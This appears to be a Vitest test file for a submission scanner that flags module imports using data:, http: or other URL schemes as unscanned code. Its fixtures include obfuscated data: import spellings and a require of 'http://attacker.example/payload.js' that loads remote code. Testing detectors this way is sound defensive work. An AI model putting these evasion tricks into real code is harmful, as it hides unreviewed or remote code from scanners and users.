/**
 * Code the scanner never reads, through the real scanners: a module specifier with a URL scheme
 * other than node:/file: (`export { createApp } from "data:…"` of the insecure notes-api app,
 * and hostile spellings of it) is unscanned code, critical, so the 75 cap applies; honest
 * unusual source (node: and relative imports, URLs that are not imported, non-ASCII text, a
 * UTF-8 byte order mark, a utf-8 coding declaration) keeps a complete scan with no finding.
 * Nothing here runs the files: they are only scanned.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { scanSubmission } from "../../src/scan/index.ts";
import { computeSecurityScore } from "../../src/scan/severity.ts";
import { UNSCANNED_CODE_RULE } from "../../src/scan/dynamic-code.ts";
import { disallowedScheme } from "../../src/scan/url-specifiers.ts";

const CHALLENGES = path.resolve(import.meta.dirname, "../../../../challenges");
const SLOW = 180_000;

let root: string;
let insecureBase64: string;

beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), "bouts-url-spec-"));
  const app = await readFile(path.join(CHALLENGES, "notes-api/submissions/insecure/app.mjs"));
  insecureBase64 = app.toString("base64");
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

async function folder(name: string, files: Record<string, string>): Promise<string> {
  const dir = path.join(root, name);
  for (const [rel, text] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), text);
  }
  return dir;
}

describe("disallowedScheme reads a specifier as Node's URL parser does", () => {
  it.each([
    ["data:text/javascript,1", "data:"],
    ["DATA:text/javascript,1", "data:"],
    [" \u0000data:text/javascript,1", "data:"],
    ["da\tta:text/javascript,1", "data:"],
    ["https://example.com/m.js", "https:"],
    ["HTTP://example.com/m.js", "http:"],
    ["blob:nodedata:abc", "blob:"],
    ["c:/x.js", "c:"],
  ])("%j → %s", (spec, scheme) => expect(disallowedScheme(spec)).toBe(scheme));

  it.each([
    "node:fs",
    "NODE:fs",
    "file:///work/a.js",
    "./a.js",
    "../a.js",
    "/abs.js",
    "express",
    "@s/p",
  ])("%j is allowed", (spec) => expect(disallowedScheme(spec)).toBeNull());
});

describe("a module specifier with a URL scheme is unscanned code", () => {
  it(
    "the insecure notes-api app re-exported from a data: URL: partial, critical, capped at 75",
    async () => {
      const dir = await folder("data-reexport", {
        "app.mjs": `export { createApp } from "data:text/javascript;base64,${insecureBase64}";\n`,
        "package.json": '{ "type": "module" }\n',
      });
      const report = await scanSubmission(dir, { runtime: "node" });
      expect(report.status).toBe("partial");
      expect(report.skipped.map((s) => s.file)).toContain("app.mjs");
      expect(report.skipped.find((s) => s.file === "app.mjs")?.reason).toContain("data:");
      const unscanned = report.findings.filter((f) => f.rule === UNSCANNED_CODE_RULE);
      expect(unscanned).toMatchObject([{ severity: "critical", file: "app.mjs", line: 1 }]);
      const score = computeSecurityScore(report.findings);
      expect(score.finalScoreCap).toBe(75);
      expect(score.score).toBeLessThanOrEqual(75);
    },
    SLOW,
  );

  // Each file hides a module behind another spelling of a URL specifier.
  const hostile: Record<string, string> = {
    "dynamic-upper.mjs": `export const add = async (a, b) => (await import("DATA:text/javascript,export default (a,b)=>a+b")).default(a, b);\n`,
    "template.mjs": "export const m = () => import(`data:text/javascript,export default 1`);\n",
    "escaped.mjs": `export { x } from "\\u0064ata:text/javascript,export const x = 1";\n`,
    "tab.mjs": `export const m = () => import("da\\tta:text/javascript,export default 1");\n`,
    "spaced.mjs": `import " data:text/javascript,globalThis.x=1";\n`,
    "concat.mjs": `export const m = () => import("da" + "ta:text/javascript," + "export default 1");\n`,
    "const.mjs": `const SRC = "data:text/javascript,export default 1";\nexport const m = () => import(SRC);\n`,
    "http-require.cjs": `module.exports = require("http://attacker.example/payload.js");\n`,
    "resolve.mjs": `export const m = () => import(import.meta.resolve("data:text/javascript,export default 1"));\n`,
    "worker.mjs": `import { Worker } from "node:worker_threads";\nexport const w = () => new Worker(new URL("data:text/javascript,1"));\n`,
    "import-equals.ts": `import m = require("https://cdn.example/m.js");\nexport const x = m;\n`,
  };

  it(
    "hostile spellings: each file is listed as unscanned, with one critical finding",
    async () => {
      const dir = await folder("hostile", hostile);
      const report = await scanSubmission(dir, { runtime: "node" });
      expect(report.status).toBe("partial");
      const listed = new Set(
        report.skipped
          .filter((s) => s.reason.startsWith("dynamic code loading"))
          .map((s) => s.file),
      );
      for (const file of Object.keys(hostile)) expect(listed, file).toContain(file);
      expect(report.findings.filter((f) => f.rule === UNSCANNED_CODE_RULE)).toHaveLength(1);
      expect(computeSecurityScore(report.findings).finalScoreCap).toBe(75);
    },
    SLOW,
  );
});

describe("honest unusual source keeps full marks", () => {
  it(
    "node: and relative imports, URLs that are not imported, non-ASCII text, byte order marks, a utf-8 declaration",
    async () => {
      const dir = await folder("honest", {
        "app.mjs":
          '\ufeffimport { join } from "node:path";\nimport { grüße } from "./lib/greet.mjs";\n' +
          'import data from "./data.json" with { type: "json" };\n' +
          'const API = new URL("https://api.example.com/v1/");\n' +
          'export const where = () => `${join("a", "b")} ${API.href} ${grüße(\'мир\')} ${data.n}`;\n' +
          'export const later = () => import("./lib/greet.mjs");\n' +
          'export const docs = "data:text/plain,not imported";\n',
        "lib/greet.mjs":
          "// Grüße an alle — 数字 🙂\nexport const grüße = (wer) => `Hallo, ${wer}!`;\n",
        "data.json": '{ "n": 1 }\n',
        "tool.py":
          '# -*- coding: utf-8 -*-\nimport json\n\ndef añadir(a, b):\n    """Suma — ñandú 🙂"""\n    return json.dumps(a + b)\n',
        "bom.py": "\ufeffimport os.path\n\ndef name(p):\n    return os.path.basename(p)\n",
        "package.json": '{ "type": "module" }\n',
      });
      const report = await scanSubmission(dir, { runtime: "node" });
      expect(report.skipped).toEqual([]);
      expect(report.findings).toEqual([]);
      expect(report.status).toBe("complete");
    },
    SLOW,
  );
});
